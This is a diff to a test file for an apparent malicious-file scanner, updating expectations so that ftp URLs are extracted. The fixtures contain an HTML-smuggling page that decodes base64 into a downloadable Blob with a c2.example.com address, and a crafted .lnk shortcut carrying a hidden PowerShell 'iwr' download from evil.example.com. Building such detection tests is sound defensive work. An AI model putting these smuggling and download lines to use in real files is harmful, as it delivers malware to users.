@@ -339,7 +339,7 @@ describe('pages in files', () => {
     const { inside, urls } = await look(
       'open.htm',
       text(
-        `<html><body onload="go()"><script>var b=atob("${'QUJD'.repeat(200)}");var u=URL.createObjectURL(new Blob([b]));a.download="x.zip";var h='https:\\/\\/c2.example.com/p';var v="victim@example.org"</script>`,
+        `<html><body onload="go()"><script>var b=atob("${'QUJD'.repeat(200)}");var u=URL.createObjectURL(new Blob([b]));a.download="x.zip";var h='https:\\/\\/c2.example.com/p';var v="victim@example.org";var f="ftp://c3.example.com/p"</script>`,
       ),
     )
     expect(inside?.page).toMatchObject({
@@ -349,7 +349,7 @@ describe('pages in files', () => {
       encoded: 800,
       addresses: ['victim@example.org'],
     })
-    expect(urls).toEqual(['https://c2.example.com/p'])
+    expect(urls).toEqual(['https://c2.example.com/p', 'ftp://c3.example.com/p'])
   })
   it('a sign-in form, and an SVG with script', async () => {
     expect(
@@ -418,12 +418,12 @@ describe('other kinds', () => {
     link.writeUInt32LE(76, 0)
     Buffer.from('0114020000000000c000000000000046', 'hex').copy(link, 4)
     link.writeUInt32LE(0x20 | 0x80, 20)
-    const args = '-w hidden iwr https://evil.example.com/a.ps1'
+    const args = '-w hidden iwr https://evil.example.com/a.ps1 ftp://evil.example.com/b'
     const length = Buffer.alloc(2)
     length.writeUInt16LE(args.length)
     expect(await look('a.lnk', Buffer.concat([link, length, Buffer.from(args, 'utf16le')]))).toMatchObject({
       inside: { notes: [`starts ${args}`] },
-      urls: ['https://evil.example.com/a.ps1'],
+      urls: ['https://evil.example.com/a.ps1', 'ftp://evil.example.com/b'],
     })
     expect(await look('a.url', text('[InternetShortcut]\r\nURL=https://evil.example.com/\r\n'))).toMatchObject({
       inside: { notes: ['opens https://evil.example.com/'] },
